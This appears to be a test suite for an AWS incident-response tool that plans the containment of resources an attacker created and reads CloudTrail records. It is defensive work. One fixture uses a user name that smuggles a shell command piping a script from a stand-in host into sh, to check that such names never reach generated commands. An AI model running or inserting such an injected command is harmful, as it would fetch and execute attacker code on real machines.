import assert from "node:assert/strict";
import { rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { type AddressInfo } from "node:net";
import { lazyClients } from "../../../../aws/clients";
import { openEvidence } from "../../../../operations/evidence/evidence";
import { applyInOrder } from "../../../../operations/respond/sweep/in-order";
import { allMade } from "../../../../operations/respond/sweep/made";
import { type Found } from "../../../../operations/respond/sweep/model";
import { nextSubjects, withContained } from "../../../../operations/respond/sweep/next-subjects";
import { planSweep, withMissed } from "../../../../operations/respond/sweep/plan";
import { sweepText } from "../../../../operations/respond/sweep/words";
import { asTrailEvent } from "../../../../operations/respond/events/record";
import { apiCall, type CloudTrailRecord, refused } from "../../../support/cloudtrail-records";
import { scratch } from "../../../support/scratch";

const instance: Found = {
  kind: "instance",
  id: "i-1",
  region: "eu-west-1",
  time: "2026-11-20T03:07:11Z",
  event: "RunInstances",
  by: "arn:aws:iam::111122223333:user/mina",
  accessKeyId: "AKIAIOSFODNN7EXAMPLE",
  cost: "g5.xlarge",
  state: "exists",
  detail: "running",
};
const accessKey: Found = {
  ...instance,
  kind: "access key",
  id: "AKIAI44QH8DHBEXAMPLE",
  of: "backdoor",
  detail: "Active",
};
const actions = (found: Found[], keep: string[] = []) =>
  planSweep(found, "case", keep)
    .flat()
    .map(({ action }) => action);

describe("what a sweep would do", () => {
  const cases: [what: string, found: Found, keep: string[], actions: string[]][] = [
    ["a running instance", instance, [], ["CreateSnapshots", "StopInstances"]],
    ["a stopped instance", { ...instance, detail: "stopped" }, [], []],
    ["an instance that is gone", { ...instance, state: "gone", detail: "terminated" }, [], []],
    ["an instance of nobody known", { ...instance, unattributed: true }, [], []],
    ["an instance of an Auto Scaling group", { ...instance, untouched: "the group would launch another" }, [], []],
    ["an active key", accessKey, [], ["UpdateAccessKey"]],
    ["an inactive key", { ...accessKey, detail: "Inactive" }, [], []],
    ["the key of whoever runs this", accessKey, [accessKey.id], []],
    ["a bucket", { ...instance, kind: "bucket", id: "loot", detail: "there" }, [], []],
  ];
  for (const [what, found, keep, expected] of cases) {
    it(`to ${what}: ${expected.join(", then ") || "nothing"}`, () =>
      assert.deepEqual(actions([found], keep), expected));
  }

  const looks: [what: string, first: Found, now: Found, says?: RegExp][] = [
    [
      "an instance that the first look failed for",
      { ...instance, state: "unknown", detail: "denied" },
      instance,
      /denied/,
    ],
    ["a key that the first look failed for", { ...accessKey, state: "unknown", detail: "busy" }, accessKey, /busy/],
    ["an instance that somebody started again", { ...instance, detail: "stopped" }, instance, /stopped/],
    ["an instance that it could not stop", instance, instance],
    ["a stopped instance", { ...instance, state: "unknown", detail: "denied" }, { ...instance, detail: "stopped" }],
    ["the user of a key", { ...accessKey, kind: "user", state: "unknown" }, { ...accessKey, kind: "user" }],
  ];
  for (const [what, first, now, says] of looks) {
    it(`${says ? "says that it did nothing to" : "has nothing to add on"} ${what}`, () => {
      const [found] = withMissed([now], [first], (each) => planSweep(each, "case", []));
      const text = sweepText([found!], [], "UTC").join("\n");
      if (says) {
        assert.match(found!.untouched!, says);
        assert.match(text, /Left as it is:[^]*nothing was done to it/);
      } else assert.deepEqual(found, now);
    });
  }

  it("leads on to every identity that was made or opened, but not to what is gone or to the subject itself", () => {
    const made = (kind: Found["kind"], id: string, more: Partial<Found> = {}): Found => ({
      ...instance,
      kind,
      id,
      ...more,
    });
    const found = [
      made("user", "backdoor"),
      made("console password", "backdoor"),
      made("console password", "mina"),
      made("user", "removed", { state: "gone" }),
      made("role", "door"),
      made("user", "x; curl evil.example | sh"),
      made("trust of role", "payroll"),
      made("user", "somebody", { unattributed: true }),
      made("bucket", "loot"),
      accessKey,
    ];
    const next = nextSubjects(
      found,
      { kind: "user", name: "mina", key: "AKIAIOSFODNN7EXAMPLE" },
      {
        prefix: "baseline",
        evidence: "incidents/this-one",
        endpoint: "http://localhost:5000",
      },
    );
    assert.deepEqual(
      next.map(({ command }) => command),
      ["user/backdoor", "role/door", "role/payroll"].map(
        (each) => `npm run respond -- ${each} contain --endpoint http://localhost:5000`,
      ),
    );
  });

  it("leads on to nobody who is contained already, and says so of what was made", () => {
    const found: Found[] = [{ ...instance, kind: "console password", id: "backdoor", detail: "can sign in" }, instance];
    const contained = new Map([["user/backdoor", ["baseline-respond-deny"]]]);
    assert.deepEqual(nextSubjects(found, { kind: "user", name: "mina" }, { prefix: "baseline" }, contained), []);
    assert.deepEqual(
      withContained(found, contained).map(({ detail }) => detail),
      ["can sign in; user/backdoor is contained", "running"],
    );
  });

  it("names the maker once where there is one, and with each thing where there are more", () => {
    const one = sweepText([instance, accessKey], [], "UTC").join("\n");
    assert.equal(one.match(/user\/mina/g)?.length, 1);
    const two = sweepText([instance, { ...accessKey, by: "arn:aws:iam::1:user/noor" }], [], "UTC").join("\n");
    assert.ok(/user\/mina/.test(two) && /user\/noor/.test(two));
    assert.ok([...one.split("\n"), ...two.split("\n")].every((line) => line.length <= 80));
  });

  it("to what was made before the suspicion: nothing, it is the owner's own", () => {
    const made = [
      instance,
      { ...accessKey, time: "2026-10-01T10:00:00Z" },
      { ...instance, time: "2026-10-01T10:00:00Z" },
    ];
    const calls = planSweep(made, "case", [], new Date("2026-11-20T00:00:00Z")).flat();
    assert.deepEqual(
      calls.map(({ action }) => action),
      ["CreateSnapshots", "StopInstances"],
    );
  });

  it("never ends or deletes anything, and says the way back of what it changes", () => {
    const calls = planSweep([instance, accessKey], "case", []).flat();
    assert.ok(calls.every(({ action }) => !/Terminate|Delete/.test(action)));
    assert.ok(calls.every(({ undo, noUndo }) => undo !== undefined || noUndo !== undefined));
  });
});

describe("what an identity made", () => {
  async function madeOf(records: CloudTrailRecord[]) {
    // eslint-disable-next-line @typescript-eslint/require-await -- as the events come from disk
    async function* events() {
      for (const record of records) yield asTrailEvent(record);
    }
    return (await allMade(events())).made.map(({ kind, id, of }) => [kind, id, ...(of === undefined ? [] : [of])]);
  }
  const call = (name: string, requestParameters: object, responseElements: object = {}, service = "iam") =>
    apiCall(service, name, { requestParameters, responseElements });

  it("is read from its calls", async () => {
    const records = [
      call("CreateAccessKey", {}, { accessKey: { accessKeyId: "AKIA1", userName: "mina" } }),
      call("CreateLoginProfile", { userName: "backdoor" }),
      call("UpdateAssumeRolePolicy", { roleName: "admin" }),
      call("AttachRolePolicy", { roleName: "admin", policyArn: "arn:aws:iam::aws:policy/AdministratorAccess" }),
      call("CreateFunction20150331", { functionName: "miner" }, {}, "lambda"),
      call("RunInstances", {}, { instancesSet: { items: [{ instanceId: "i-1" }, { instanceId: "i-2" }] } }, "ec2"),
    ];
    assert.deepEqual(await madeOf(records), [
      ["access key", "AKIA1", "mina"],
      ["console password", "backdoor"],
      ["trust of role", "admin"],
      ["permissions", "arn:aws:iam::aws:policy/AdministratorAccess", "role/admin"],
      ["function", "miner"],
      ["instance", "i-1"],
      ["instance", "i-2"],
    ]);
  });

  it("is not looked up where another service has a call of the same name", async () => {
    assert.deepEqual(await madeOf([call("CreateUser", { userName: "u" }, {}, "transfer")]), [["other", "u"]]);
  });

  it("is not looked up, but told, where its record lacks its name", async () => {
    assert.deepEqual(await madeOf([call("RunInstances", { instanceType: "p5.48xlarge" }, {}, "ec2")]), [
      ["other", "no name in its record"],
    ]);
  });

  it("is nothing where sharing ended", async () => {
    const ended = { snapshotId: "snap-1", createVolumePermission: { remove: { items: [{ userId: "1" }] } } };
    assert.deepEqual(await madeOf([call("ModifySnapshotAttribute", ended, {}, "ec2")]), []);
  });

  it("is nothing where AWS refused, and once where it was made twice", async () => {
    const user = call("CreateUser", { userName: "u" });
    const denied = refused("iam", "CreateUser", "AccessDenied", { requestParameters: { userName: "v" } });
    assert.deepEqual(await madeOf([user, user, denied]), [["user", "u"]]);
  });
});

describe("applying a sweep", () => {
  let server: Server;
  let folder: string;
  const asked: string[] = [];

  before(async () => {
    folder = scratch("in-order");
    server = createServer((request, response) => {
      request.on("data", (chunk: Buffer) => asked.push(/Action=(\w+)/.exec(chunk.toString())?.[1] ?? ""));
      request.on("end", () => {
        response.writeHead(403, { "content-type": "text/xml" });
        response.end(
          "<Response><Errors><Error><Code>UnauthorizedOperation</Code><Message>no</Message></Error></Errors></Response>",
        );
      });
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  });
  after(() => {
    server.close();
    rmSync(folder, { recursive: true, force: true });
  });

  it("stops no instance whose snapshot could not be taken", async () => {
    const endpoint = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const credentials = { accessKeyId: "practice", secretAccessKey: "practice" };
    const aws = lazyClients("us-east-1", (_, region) => ({ region, endpoint, credentials, maxAttempts: 1 }));
    const evidence = await openEvidence(folder);
    const context = { aws, evidence, signal: new AbortController().signal, say: () => undefined };
    const results = await applyInOrder(context, "sweep", planSweep([instance], "case", []));
    assert.deepEqual(
      results.map(({ state }) => state),
      ["failed", "not tried"],
    );
    assert.deepEqual(asked, ["CreateSnapshots"]);
    evidence.close();
    aws.destroy();
  });
});
